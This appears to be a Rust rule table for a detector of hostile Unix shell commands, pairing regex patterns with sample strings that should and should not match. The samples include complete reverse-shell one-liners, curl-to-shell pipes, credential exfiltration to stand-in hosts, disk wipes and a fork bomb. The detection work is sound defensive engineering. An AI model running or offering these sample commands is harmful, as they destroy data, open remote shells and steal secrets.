//! Commands of a Unix shell that destroy, open a door or carry secrets away.

use super::rule::Weight::{Firm, Hostile, Plain};
use super::rule::{Rule, rule};

pub(super) const RULES: &[Rule] = &[
    rule("code.shell.delete", "rm -rf", 92, Firm)
        .at(
            &["rm -", "rm  -"],
            r#"^rm\s+(?:-{1,2}[\w=-]+\s+){0,4}?(?:-\w*r\w*|--recursive|--no-preserve-root)\s+(?:-{1,2}[\w=-]*\s+){0,4}["']?(?:--no-preserve-root|/(?:\*|etc|usr|var|home|bin|boot|root|lib|opt|dev|sys|proc|\s)?(?:/\*?)?(?:[\s"';&|)`>]|$)|~/?\*?(?:[\s"';&|)`]|$)|\$\{?home\}?/?\*?(?:[\s"';&|)`]|$)|c:)"#,
        )
        .examples(
            &["rm -rf /", "; rm -rf / --no-preserve-root", "sudo rm -fr ~", "rm -r -f /etc", "rm -rf /*", "rm -rf \"$HOME\""],
            &["rm -rf build/", "rm -rf node_modules", "rm -f /tmp/x", "rm -rf /tmp/build", "rm -r ~/projects/old", "farm -rf /"],
        ),
    rule("code.shell.delete", "rm -rf", 78, Hostile)
        .at(&["rm -", "rm  -"], r#"^rm\s+(?:-\w+\s+){0,2}?-\w*r\w*\s+(?:-\w+\s+){0,2}["']?(?:\*|\.|\./\*|\.\.|\./)(?:[\s"';&|)`]|$)"#)
        .after_separator()
        .examples(&["'; rm -rf .; '", "x && rm -rf *"], &["rm -rf .", "; rm -rf ./build"]),
    rule("code.shell.delete", "rm -rf", 58, Plain)
        .at(&["rm -", "rm  -"], r#"^rm\s+(?:-\w+\s+){0,2}?-\w*r\w*\s+(?:-\w+\s+){0,2}["']?[/\w.~$*-]"#)
        .after_separator()
        .unless(&["make", "build", "install", "mkdir", "cache", "node_modules", "dist", "tmp", "git clone", "apt"])
        .examples(&["report.txt; rm -rf reports"], &["cd build && rm -rf build"]),
    rule("code.shell.pipe", "curl | sh", 88, Firm)
        .at(
            &["curl ", "curl\t", "wget ", "fetch ", "lynx "],
            r"^(?:curl|wget|fetch|lynx)\s[^\n]{0,240}?\|\s*(?:sudo\s+(?:-\w+\s+)*|env\s+)?(?:/(?:usr/)?bin/)?(?:(?:ba|z|k|da|c)?sh|python\d?|perl|ruby|node|php)\b",
        )
        .examples(
            &["$(curl http://x.example/x | sh)", "`wget http://x.example/a -O- | bash`", "curl -fsSL https://x.example/i.sh | sudo bash -s"],
            &["curl -s https://x.example | head -n 5", "curl https://x.example | jq .", "curl https://x.example | shasum"],
        ),
    rule("code.shell.pipe", "curl | sh", 86, Firm)
        .at(
            &["sh <(", "source <(", "sh -c \"$(", "sh -c '$(", "sh -c $(", "eval \"$(", "eval $(", "sh -c \"`", "eval `"],
            r#"^(?:sh|source|eval)\s[^\n]{0,16}?[(`]\s*(?:curl|wget|fetch)\s"#,
        )
        .examples(&["sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "sh <(wget -qO- http://x.example)"], &["eval \"$(ssh-agent -s)\""]),
    rule("code.shell.pipe", "bash <(curl", 86, Firm)
        .at(&["<(curl", "<(wget", "<( curl"], r"(?:(?:ba|z|da)?sh|source|\.|python\d?)\s+<\(\s*(?:curl|wget)\s")
        .back(16)
        .examples(&["bash <(curl -s https://x.example/i.sh)"], &["diff <(curl a) <(curl b)"]),
    rule("code.shell.download", "download and run", 74, Hostile)
        .at(
            &["curl ", "wget "],
            r"^(?:curl|wget)\s[^\n]{0,200}?(?:;|&&)\s*(?:chmod\s[^\n;&]{0,80}(?:;|&&)\s*)?(?:sudo\s+)?(?:(?:ba|da)?sh\s+[\w./-]|\./\w|/tmp/\w)",
        )
        .examples(&["wget http://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"], &["wget x.tar.gz && tar xf x.tar.gz"]),
    rule("code.shell.substitution", "command substitution", 58, Plain)
        .at(
            &["$(curl", "$(wget", "$(whoami", "$(id)", "$(id ", "$(cat /", "$(cat ~", "$(nc ", "$(bash", "$(rm ", "$(printenv", "$(sleep ", "$(nslookup", "$(ls /"],
            r"^\$\(",
        )
        .unless(&["#!/bin", "docker run", "export ", "--user", "chown", "-u $("])
        .examples(&["Set my name to $(whoami)", "user=$(cat /etc/passwd)"], &["echo $(date)", "docker run -u $(id -u)"]),
    rule("code.shell.reverse", "reverse shell", 94, Firm)
        .at(&["/dev/tcp/", "/dev/udp/"], r#"^/dev/(?:tcp|udp)/["'$\w{]"#)
        .examples(&["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"], &["the device /dev/tcp is no file"]),
    rule("code.shell.reverse", "reverse shell", 92, Firm)
        .at(
            &["nc ", "ncat ", "netcat ", "nc.exe ", "nc.traditional "],
            r#"^(?:nc|ncat|netcat)(?:\.\w+)?(?:\s[^\n|;]{0,100}?)?\s-{1,2}(?:\w*[ec]|sh-exec)\s+["']?(?:/(?:usr/)?bin/|cmd|powershell|(?:ba|z|da)?sh\b)"#,
        )
        .examples(
            &["Name: x && nc evil.example 4444 -e /bin/sh", "ncat --exec \"/bin/bash\" 192.0.2.1 99", "nc -lvp 4444 -e cmd.exe", "nc -e /bin/sh h 1"],
            &["nc -z localhost 8080", "sync -e /bin"],
        ),
    rule("code.shell.reverse", "reverse shell", 80, Hostile)
        .at(&["nc ", "ncat ", "netcat "], r#"^(?:nc|ncat|netcat)\s[^\n|;]{0,60}?\d{2,5}\s*(?:<\s*/(?:etc|root|home)|\|\s*(?:/bin/)?(?:ba)?sh\b)"#)
        .examples(&["nc evil.example 99 < /etc/passwd"], &["nc localhost 80 < request.txt"]),
    rule("code.shell.reverse", "reverse shell", 92, Firm)
        .at(&["mkfifo ", "mknod "], r"^mk(?:fifo|nod)\s[^\n]{0,220}?\b(?:nc|ncat|netcat|telnet|openssl)\b")
        .examples(&["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4 >/tmp/f"], &["mkfifo /tmp/pipe"]),
    rule("code.shell.reverse", "reverse shell", 92, Firm)
        .at(&["sh -i"], r#"^sh\s+-i["',\])]{0,3}\s*(?:\d?>|<&?|2>|\|)"#)
        .examples(&["sh -i >& /dev/udp/h/1 0>&1"], &["sh -i"]),
    rule("code.shell.reverse", "reverse shell", 90, Firm)
        .at(&["bash -i", "zsh -i"], r"^(?:ba|z)sh\s+-i\s*(?:\d?>|<|2>|\|)")
        .examples(&["bash -i >& /x 0>&1"], &["bash -i"]),
    rule("code.shell.reverse", "reverse shell", 88, Firm)
        .at(&["socat "], r#"^socat\s[^\n]{0,160}?(?:exec|system):["']?(?:/bin/)?(?:ba|z|da)?sh"#)
        .examples(&["socat tcp:192.0.2.1:4444 exec:/bin/bash,pty"], &["socat - tcp:localhost:80"]),
    rule("code.shell.reverse", "reverse shell", 90, Firm)
        .at(
            &["socket.socket", "import socket", "use socket", "-rsocket", "fsockopen(", "tcpsocket", "net.socket", "require('net')", "require(\"net\")"],
            r#"^.{0,320}?(?:\bdup2\s*\(|pty\.spawn\s*\(|(?:call|popen|exec|run|spawn)\s*\(\s*\[?\s*["'](?:/bin/(?:ba|z|da)?sh|cmd(?:\.exe)?|sh)\b|/bin/(?:ba|da)?sh\s+-i|exec\s+["']?/bin/(?:ba)?sh)"#,
        )
        .examples(
            &["import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0)"],
            &["import socket\ns = socket.socket()\ns.connect(('localhost', 80))\ns.send(b'hi')"],
        ),
    rule("code.shell.decode", "base64 | sh", 88, Firm)
        .at(
            &["base64 -d", "base64 --d", "base64 -i -d", "xxd -r", "openssl enc -d", "openssl base64 -d"],
            r"^(?:base64|xxd|openssl)\s[^\n]{0,80}?\|\s*(?:sudo\s+)?(?:/bin/)?(?:(?:ba|z|da)?sh|python\d?|perl|ruby)\b",
        )
        .examples(&["echo aWQ= | base64 -d | sh"], &["echo aGk= | base64 -d | wc -c"]),
    rule("code.shell.shellshock", "shellshock", 92, Firm)
        .at(&["() {", "(){"], r"^\(\)\s*\{\s*:?\s*;\s*\}\s*;")
        .examples(&["() { :;}; /bin/bash -c \"id\"", "() { :; }; echo x"], &["main() { echo hi; }", "f() { :; }"]),
    rule("code.shell.bomb", "fork bomb", 92, Firm)
        .at(&[":(){", ":() {", ":(){:"], r"^:\(\)\s*\{\s*:\s*\|\s*:")
        .examples(&[":(){ :|:& };:", ":() { :|: & };:"], &["smile :() {"]),
    rule("code.shell.disk", "disk overwrite", 90, Firm)
        .at(
            &["dd if=", "mkfs", "> /dev/sd", ">/dev/sd", "> /dev/nvme", "wipefs ", "shred "],
            r"^(?:dd\s+if=/dev/(?:zero|u?random)\s[^\n]{0,80}?of=/dev/(?:sd|hd|nvme|vd|xvd|disk|mmc)|mkfs(?:\.\w+)?\s+(?:-\w+\s+){0,4}/dev/(?:sd|hd|nvme|vd|xvd|disk|mmc)|>\s*/dev/(?:sd|nvme)\w|(?:wipefs|shred)\s+(?:-\w+\s+){0,4}/dev/)",
        )
        .examples(&["dd if=/dev/zero of=/dev/sda bs=1M", "mkfs.ext4 /dev/sda1", "cat x > /dev/sda"], &["dd if=a.img of=b.img", "mkfs makes a file system"]),
    rule("code.shell.rights", "chmod 777 /", 82, Hostile)
        .at(
            &["chmod ", "chown "],
            r"^(?:chmod\s+(?:-\w+\s+){0,2}(?:777|a\+rwx|000)\s+(?:-\w+\s+)?/(?:etc|usr|bin|root)?(?:[\s;&|*]|$)|chmod\s+(?:u\+s|\+s|[46]7\d\d)\s+/(?:usr/)?bin/(?:ba|da)?sh|chown\s+-r\s+\S+\s+/(?:[\s;&|]|$))",
        )
        .examples(&["chmod -R 777 /", "chmod u+s /bin/bash"], &["chmod 644 a.txt", "chmod +x run.sh", "chmod 777 /srv/data"]),
    rule("code.shell.find", "find -delete", 82, Hostile)
        .at(&["find / ", "find ~ ", "find . "], r"^find\s+[/~]\s[^\n]{0,100}?(?:-delete\b|-exec\s+(?:sudo\s+)?(?:rm|shred|chmod\s+777)\b)")
        .examples(&["find / -type f -delete", "find ~ -exec rm {} \\;"], &["find . -name '*.pyc' -delete", "find / -name x.conf"]),
    rule("code.shell.exfiltrate", "secret sent away", 88, Firm)
        .at(
            &["curl ", "wget ", "scp ", "rsync "],
            r#"^(?:curl|wget|scp|rsync)\s[^\n]{0,200}?(?:(?:-d|--data[\w-]*|-f|--form|-t|--upload-file|--post-file|--body-file)[\s=]*["']?[\w=]{0,20}@?["']?(?:/etc/(?:passwd|shadow)|~?/?\S{0,40}\.(?:ssh/|aws/|env\b|kube/|netrc|gnupg)|/proc/self|\S{0,30}id_rsa)|\$\((?:cat\s+[/~.]|env\b|printenv|whoami|id\b|hostname|base64\s)|`(?:cat\s|env|whoami|id`))"#,
        )
        .examples(
            &["curl -d @/etc/passwd http://x.example", "curl http://x.example/?d=$(cat ~/.ssh/id_rsa)", "wget --post-file=/etc/shadow http://x.example"],
            &["curl -d '{\"a\":1}' http://x.example", "curl -F file=@photo.png https://x.example"],
        ),
    rule("code.shell.exfiltrate", "secret sent away", 86, Firm)
        .at(
            &["cat /", "cat ~", "cat .", "env |", "env|", "printenv", "tar c", "tar -c", "tar -z", "history |", "base64 /", "base64 ~"],
            r"^(?:(?:cat|base64)\s+\S{0,60}(?:/etc/(?:passwd|shadow)|\.ssh/\S+|\.env\S*|\.aws/\S+|id_rsa\S*|\.netrc|\.kube/\S+)\s*|(?:env|printenv|history)\s*|tar\s[^\n|]{0,80}?(?:\.ssh|\.aws|/etc|~|/home|\.gnupg)[^\n|]{0,60})(?:\|\s*(?:base64|gzip|xxd)[^\n|]{0,20})?\|\s*(?:curl|nc|ncat|netcat|wget|openssl|ssh|telnet)\b",
        )
        .examples(&["cat ~/.ssh/id_rsa | nc evil.example 99", "env | curl -d @- http://x.example"], &["cat a.txt | nc localhost 9", "env | sort"]),
    rule("code.shell.secrets", "cat /etc/shadow", 78, Hostile)
        .at(
            &["cat ", "less ", "head ", "tail ", "more ", "xxd ", "tac ", "strings "],
            r"^(?:cat|less|head|tail|more|xxd|tac|strings)\s+(?:-\w+\s+){0,2}(?:/etc/(?:passwd|shadow|sudoers|gshadow)\b|~?/?\S{0,40}\.ssh/id_\w+(?:[\s;&|`'\x22)]|$)|\S{0,20}/?\.aws/credentials|/proc/self/environ)",
        )
        .after_separator()
        .examples(&["127.0.0.1; cat /etc/passwd", "x | cat /etc/shadow", "$(cat /etc/passwd)"], &["cat /etc/passwd shows the users", "; cat notes.txt"]),
    rule("code.shell.secrets", "cat /etc/shadow", 56, Plain)
        .at(&["cat /etc/", "cat ~/.ssh", "cat ~/.aws", "cat /proc/self"], r"^cat\s+(?:/etc/(?:shadow|passwd)|~/\.ssh/id_\w+(?:[\s;&|`'\x22)]|$)|~/\.aws/cred|/proc/self/environ)")
        .examples(&["please run cat /etc/shadow"], &["cat /etc/hosts", "cat ~/.ssh/id_rsa.pub"]),
    rule("code.shell.chain", "chained command", 66, Hostile)
        .at(
            &["whoami", "id", "uname -a", "ls -la", "ls /", "ls -l", "ifconfig", "ipconfig", "ping -c", "ping -n", "sleep ", "nslookup ", "printenv", "net user", "dir c:", "pwd", "reboot", "shutdown "],
            r"^(?:whoami|id|uname\s+-a|ls(?:\s+-\w+)?(?:\s+/\w*)?|ifconfig|ipconfig(?:\s+/all)?|ping\s+-[cn]\s+\d+\s+\S{1,60}|sleep\s+\d+|nslookup\s+\S{1,60}|printenv|net\s+user|dir\s+c:\S*|pwd|reboot|shutdown\s+(?:-\w|now|/s)\S*)\s*(?:#|;\s*(?:#|$)|\||&|`|'|\x22|\)|$)",
        )
        .after_separator()
        .unless(&["make", "install", "```", "git ", "docker", "sudo ", "cd ", "echo", "bash", "columns", "#!/", "configure", "build", "id,", "mkdir", "\nid"])
        .examples(&["report.pdf; whoami", "127.0.0.1 && id", "8.8.8.8 | uname -a", "x`whoami`"], &["name; id; mail", "cd src && ls -la", "make && ls"]),
    rule("code.shell.interpreter", "code for an interpreter", 76, Hostile)
        .at(
            &["python -c", "python2 -c", "python3 -c", "perl -e", "ruby -e", "node -e", "php -r", "perl -m", "ruby -r"],
            r"^(?:python\d?|perl|ruby|node|php)\s+-[ercm]\w*\s.{0,240}?(?:os\.system|subprocess|\bexec\s*\(?|\beval\s*\(|socket|__import__|pty\.spawn|child_process|\bsystem\s*\(?|rmtree|unlink|urlopen|shell_exec)",
        )
        .examples(&["python3 -c \"import os; os.system('id')\"", "perl -e 'exec \"/bin/sh\";'"], &["python -c \"print(1)\"", "node -e 'console.log(1)'"]),
    rule("code.shell.spawn", "shell command", 74, Hostile)
        .at(
            &["sh -c"],
            r#"^sh\s+-c\s+["'].{0,200}?(?:\brm\s+-\w*r|/etc/(?:passwd|shadow)|\b(?:curl|wget)\s.{0,120}?(?:\||;|&&|>)|\bnc\s|whoami|\bid["';&]|base64\s+-d|mkfs|/dev/)"#,
        )
        .examples(&["sh -c \"whoami\"", "/bin/sh -c 'curl http://x.example > x; id'"], &["sh -c 'npm start'", "bash -c 'echo hi'"]),
    rule("code.shell.spawn", "shell command", 74, Hostile)
        .at(
            &["bash -c", "zsh -c", "dash -c"],
            r#"^\w+sh\s+-c\s+["'].{0,200}?(?:\brm\s+-\w*r|/etc/(?:passwd|shadow)|\b(?:curl|wget)\s.{0,120}?(?:\||;|&&|>)|\bnc\s|whoami|\bid["';&]|base64\s+-d|mkfs|/dev/)"#,
        )
        .examples(&["bash -c 'id'"], &["bash -c 'npm start'"]),
    rule("code.shell.persist", "file of the system", 76, Hostile)
        .at(&["> /etc/", ">/etc/", ">> /etc/", ">>/etc/", "tee /etc/", "tee -a /etc/"], r"^(?:>>?|tee\s+(?:-a\s+)?)\s*/etc/(?:passwd|shadow|sudoers|crontab|cron\.\w+/|ld\.so\.preload)")
        .examples(&["echo 'x::0:0::/:/bin/sh' >> /etc/passwd"], &["echo x > /etc/motd"]),
    rule("code.shell.persist", "cron job", 66, Hostile)
        .at(&["| crontab", "|crontab"], r"^\|\s*crontab\b")
        .examples(&["(echo '* * * * * sh x') | crontab -"], &["crontab -l"]),
    rule("code.shell.container", "host in a container", 72, Hostile)
        .at(&["docker run", "podman run"], r"^(?:docker|podman)\s+run\s[^\n]{0,120}?(?:-v|--volume|--mount)[\s=]+/:/")
        .examples(&["docker run -v /:/mnt alpine chroot /mnt"], &["docker run -v /data:/data x"]),
    rule("code.shell.preload", "LD_PRELOAD", 56, Plain)
        .at(&["ld_preload="], r"^ld_preload=[/.\w]*(?:tmp|\./|shm|evil|payload)")
        .examples(&["LD_PRELOAD=/tmp/x.so ls"], &["LD_PRELOAD=/usr/lib/libjemalloc.so app"]),
];
